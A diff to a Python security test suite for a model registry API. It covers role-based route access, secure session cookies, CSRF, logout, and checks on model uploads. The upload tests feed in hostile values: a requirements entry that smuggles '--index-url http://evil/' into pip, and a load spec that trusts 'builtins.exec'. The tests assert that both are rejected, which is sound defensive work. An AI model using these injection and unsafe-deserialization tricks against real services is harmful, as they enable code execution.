@@ -77,7 +77,8 @@ def test_each_role_against_each_route(team: Team, method: str, path: str) -> Non
     url = _fill(path)
     body = {} if method in ("POST", "PUT") else None
     anonymous = team.call(method, url, None, json=body).status_code
-    assert anonymous == (422 if rule == PUBLIC else 401)
+    public = {"/api/v1/login": 422, "/api/v1/logout": 200}  # no credentials / no session
+    assert anonymous == (public[path] if rule == PUBLIC else 401)
     for who in (*ROLES, "outsider", "root"):
         response = team.call(method, url, who, json=body)
         code = response.json().get("error", {}).get("code") if response.content else None
@@ -88,7 +89,7 @@ def test_each_role_against_each_route(team: Team, method: str, path: str) -> Non
                 continue
             allowed = who == "root" or role_rank(who) >= role_rank(rule)
         elif rule == PUBLIC:
-            assert response.status_code == 422  # login, with no credentials in the body
+            assert response.status_code == public[path]
             continue
         elif rule == SERVER_ADMIN:
             allowed = who == "root"
@@ -297,6 +298,7 @@ def test_repeated_bad_tokens_are_rate_limited(team: Team) -> None:
 
 
 def test_a_browser_session_needs_the_csrf_token_for_changes(team: Team) -> None:
+    team.client.base_url = "https://testserver"  # session cookies are Secure
     identity = team.app.state.conveyor.identity
     identity.set_password("editor", "long enough secret")
     wrong = team.client.post("/api/v1/login", json={"user": "editor", "password": "nope"})
@@ -309,6 +311,7 @@ def test_a_browser_session_needs_the_csrf_token_for_changes(team: Team) -> None:
     assert "conveyor_session=" in cookie
     assert "httponly" in cookie
     assert "samesite=strict" in cookie
+    assert "secure" in cookie
     csrf = ok.json()["csrf_token"]
     client = team.client  # keeps the cookies from here on
     assert client.get("/api/v1/whoami").json()["user"] == "editor"
@@ -474,3 +477,126 @@ def test_moving_an_alias_a_deployment_serves_needs_an_approver(team: Team) -> No
     protect = f"/api/v1/projects/{PROJECT}/models/churn/protection"
     assert team.call("PUT", protect, "approver", json={"aliases": []}).status_code == 403
     assert team.call("PUT", protect, "admin", json={"aliases": []}).status_code == 200
+
+
+def test_logout_ends_the_session_not_the_bearer_token(team: Team) -> None:
+    team.client.base_url = "https://testserver"
+    identity = team.app.state.conveyor.identity
+    identity.set_password("editor", "long enough secret")
+    login = {"user": "editor", "password": "long enough secret"}
+    first = team.client.post("/api/v1/login", json=login).json()
+    second = team.client.post("/api/v1/login", json=login).json()  # replaces the first
+    sessions = [t for t in identity.list_tokens("editor") if t.name == "browser session"]
+    assert [t.active for t in sessions] == [True, False]
+    bearer = {"Authorization": f"Bearer {team.tokens['editor']}"}
+    out = team.client.post(
+        "/api/v1/logout", headers={**bearer, "X-CSRF-Token": second["csrf_token"]}
+    )
+    assert out.status_code == 200
+    assert team.call("GET", "/api/v1/whoami", "editor").status_code == 200  # bearer still works
+    assert not any(t.active for t in identity.list_tokens("editor") if t.name == "browser session")
+    assert first["user"] == "editor"
+
+
+def _upload(team: Team, who: str, spec: dict[str, Any], files: dict[str, bytes]) -> Any:
+    import json
+
+    parts = [("spec", ("spec.json", json.dumps(spec).encode(), "application/json"))]
+    for i, name in enumerate(spec.get("files", [])):
+        parts.append((f"file{i}", (name, files[name], "application/octet-stream")))
+    headers = {"Authorization": f"Bearer {team.tokens[who]}"}
+    url = f"/api/v1/projects/{PROJECT}/models/churn/versions"
+    return team.client.post(url, files=parts, headers=headers)
+
+
+class _Custom:  # a type no allow-list knows
+    def __init__(self) -> None:
+        self.k = 1
+
+
+def _skops_model(extra: Any = None) -> tuple[bytes, dict[str, Any]]:
+    pytest.importorskip("sklearn", reason="scikit-learn is not installed")
+    from sklearn.linear_model import LogisticRegression
+
+    from conveyor.models.flavors import get_flavor
+    from tests.suites.serving import training_data
+
+    X, y = training_data()
+    model = LogisticRegression().fit(X, y)
+    if extra is not None:
+        model.extra_ = extra
+    files, info = get_flavor("sklearn").save(model)
+    return files["model.skops"], info
+
+
+def _spec(info: dict[str, Any], **changes: Any) -> dict[str, Any]:
+    spec = {
+        "flavor": "sklearn",
+        "info": info,
+        "requirements": {"scikit-learn": "1.9.1"},
+        "signature": None,
+        "description": "",
+        "run_id": None,
+        "example_name": None,
+        "files": ["model.skops"],
+    }
+    spec.update(changes)
+    return spec
+
+
+def test_an_upload_cannot_choose_what_loading_trusts(team: Team) -> None:
+    data, info = _skops_model()
+    files = {"model.skops": data}
+    assert _upload(team, "editor", _spec(info), files).status_code == 201
+    widened = {**info, "trusted_types": [*info["trusted_types"], "builtins.exec"]}
+    refused = _upload(team, "editor", _spec(widened), files)
+    assert refused.status_code == 403
+    assert "builtins.exec" in refused.json()["error"]["message"]
+    custom, custom_info = _skops_model(extra=_Custom())
+    assert _upload(team, "editor", _spec(custom_info), {"model.skops": custom}).status_code == 403
+    pickled = _spec(info, flavor="python")
+    assert _upload(team, "editor", pickled, files).status_code == 403
+
+
+def test_an_upload_spec_is_checked_before_anything_is_stored(team: Team) -> None:
+    data, info = _skops_model()
+    files = {"model.skops": data}
+    deep: Any = "x"
+    for _ in range(300):
+        deep = [deep]
+    bad_specs = [
+        _spec(info, requirements={"x\n--index-url http://evil/": "1"}),
+        _spec(info, requirements={"numpy": "1.0\n--extra"}),
+        _spec({**info, "deep": deep}),
+        _spec(info, signature={"inputs": "x"}),
+        _spec(info, example_name="conveyor-model.json"),
+    ]
+    for spec in bad_specs:
+        response = _upload(team, "editor", spec, files)
+        assert response.status_code == 422, (spec, response.text)
+    assert team.call("GET", f"/api/v1/projects/{PROJECT}/models", "viewer").json()["models"] == []
+    huge = team.call(
+        "GET", f"/api/v1/projects/{PROJECT}/model-versions/churn/99999999999999999999", "viewer"
+    )
+    assert huge.status_code == 422
+
+
+def test_a_version_a_deployment_follows_needs_an_approver(team: Team) -> None:
+    import conveyor as cv
+    from conveyor.serving.deployment import deployment_service
+
+    data, info = _skops_model()
+    files = {"model.skops": data}
+    assert _upload(team, "editor", _spec(info), files).status_code == 201
+    ws = team.app.state.conveyor.workspace(PROJECT)
+    deployment_service(ws).create("web", "churn")  # follows the newest version
+    assert _upload(team, "editor", _spec(info), files).status_code == 403
+    assert _upload(team, "approver", _spec(info), files).status_code == 201
+    assert [v.version for v in cv.models.versions("churn", workspace=ws)] == [2, 1]
+
+
+def test_loopback_hosts_in_every_spelling_are_local(tmp_path: Path) -> None:
+    app = create_app(load_settings(tmp_path, project=PROJECT), auth=False)
+    with TestClient(app, base_url="http://127.0.0.1:5000", client=("127.0.0.1", 1)) as client:
+        for host in ("[::1]", "[::1]:5000", "localhost.", "127.0.0.2:80", "LOCALHOST"):
+            assert client.get("/api/v1/whoami", headers={"Host": host}).status_code == 200, host
